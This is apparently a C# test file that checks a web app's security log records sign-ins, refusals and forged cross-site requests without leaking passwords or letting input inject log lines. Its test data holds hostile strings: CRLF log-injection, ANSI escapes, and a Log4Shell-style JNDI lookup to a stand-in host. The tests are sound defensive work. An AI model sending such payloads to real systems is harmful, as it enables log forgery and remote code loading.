using System.Net;
using System.Text.Json;
using Trellis.Store;

namespace Trellis.Tests.Access;

/// <summary>The security log: what is in it, and what never is.</summary>
public sealed class SecurityLogTests(PeopledSite site) : IClassFixture<PeopledSite>
{
    private const string Wrong = "three wrong fictional words";

    private static CancellationToken Stop => TestContext.Current.CancellationToken;

    /// <summary>The rows of a kind, once there is one that fits; they are written behind the requests.</summary>
    private async Task<IReadOnlyList<SecurityEvent>> Rows(
        string kind,
        Predicate<SecurityEvent> fits
    )
    {
        for (var tries = 0; ; tries++)
        {
            var rows = await site.Casework.SecurityEvents(kind, take: 1_000, stop: Stop);
            if (rows.Any(r => fits(r)) || tries == 100)
                return rows;
            await Task.Delay(100, Stop);
        }
    }

    /// <summary>The lines of the log, each of which must be one object of JSON.</summary>
    private IReadOnlyList<JsonElement> Lines() =>
        [
            .. site
                .Logged.Where(l => l.Contains("\"kind\"", StringComparison.Ordinal))
                .Select(l => JsonDocument.Parse(l[l.IndexOf('{')..]).RootElement),
        ];

    [Fact]
    public async Task Each_sign_in_right_or_wrong_is_a_line_of_the_log()
    {
        var head = site.Called("head of another");
        await site.CookiesOf(head.Email);
        await site.CookiesOf(head.Email, Wrong);
        await site.CookiesOf("nobody.here@fictional.example", Wrong);
        var rows = await Rows("sign-in", r => r.Outcome == "unknown");
        Assert.Contains(rows, r => r.Person == head.Id && r.Outcome == "done");
        Assert.Contains(rows, r => r.Person == head.Id && r.Outcome == "wrong-password");
        Assert.Contains(rows, r => r.Person is null && r.Outcome == "unknown");
        Assert.All(
            rows,
            r =>
            {
                Assert.Equal(TimeSpan.Zero, r.At.Offset);
                Assert.NotEqual("", r.Address);
                Assert.DoesNotContain("127.0.0.1", r.Address);
                Assert.Equal("sign-in", r.Path.TrimStart('/'));
            }
        );
        foreach (var line in Lines())
        {
            Assert.Equal(
                ["address", "at", "kind", "outcome", "path", "person"],
                line.EnumerateObject().Select(p => p.Name).Order()
            );
            Assert.EndsWith("Z", line.GetProperty("at").GetString());
        }
        Assert.DoesNotContain(
            site.Logged,
            l =>
                l.Contains(Wrong, StringComparison.Ordinal)
                || l.Contains("@fictional.example", StringComparison.Ordinal)
        );
    }

    [Fact]
    public async Task What_was_refused_or_forged_is_in_the_log()
    {
        using (
            var asked = new HttpRequestMessage(HttpMethod.Get, $"/made/speaks/{site.School.Urn}")
        )
        {
            asked.Headers.Add("Cookie", site.Called("researcher of this").Cookie);
            using var denied = await site.Client.SendAsync(asked, Stop);
            Assert.Equal(HttpStatusCode.Forbidden, denied.StatusCode);
        }
        using (var forged = new HttpRequestMessage(HttpMethod.Post, "/made/everybody"))
        {
            forged.Headers.Add("Origin", "https://elsewhere.example");
            using var refused = await site.Client.SendAsync(forged, Stop);
            Assert.Equal(HttpStatusCode.Forbidden, refused.StatusCode);
        }
        var researcher = site.Called("researcher of this").Id;
        Assert.Contains(
            await Rows("denied", r => r.Person == researcher),
            r => r.Person == researcher && r.Path == "/made/speaks/{urn}"
        );
        Assert.Contains(await Rows("forged", _ => true), r => r.Outcome == "other-site");
    }

    [Theory]
    [InlineData("a@b.example\r\n{\"kind\":\"sign-in\",\"outcome\":\"done\"}")]
    [InlineData("\u001b[31mred@fictional.example")]
    [InlineData("x\u2028y@fictional.example")]
    [InlineData("${jndi:ldap://elsewhere.example/a}@fictional.example")]
    [InlineData("%0d%0aforged@fictional.example")]
    public async Task What_somebody_sends_makes_no_line_of_its_own(string typed)
    {
        await site.CookiesOf(typed, typed);
        using var asked = new HttpRequestMessage(
            HttpMethod.Get,
            "/made/signed-in.json?" + Uri.EscapeDataString(typed)
        );
        asked.Headers.TryAddWithoutValidation(
            "User-Agent",
            new string([.. typed.Where(c => c is >= ' ' and < '\u007f')])
        );
        using var denied = await site.Client.SendAsync(asked, Stop);
        Assert.Equal(HttpStatusCode.Unauthorized, denied.StatusCode);
        // Every line is an object of ours, and none has a letter that moves or colours it.
        Assert.NotEmpty(Lines());
        Assert.DoesNotContain(
            site.Logged.Where(l => l.Contains("\"kind\"", StringComparison.Ordinal)),
            l =>
                l.TrimEnd().Any(c => char.IsControl(c) || c is '\u2028' or '\u2029')
                || l.Contains("jndi", StringComparison.Ordinal)
                || l.Contains("forged@", StringComparison.Ordinal)
                || l.Contains("red@", StringComparison.Ordinal)
        );
    }
}
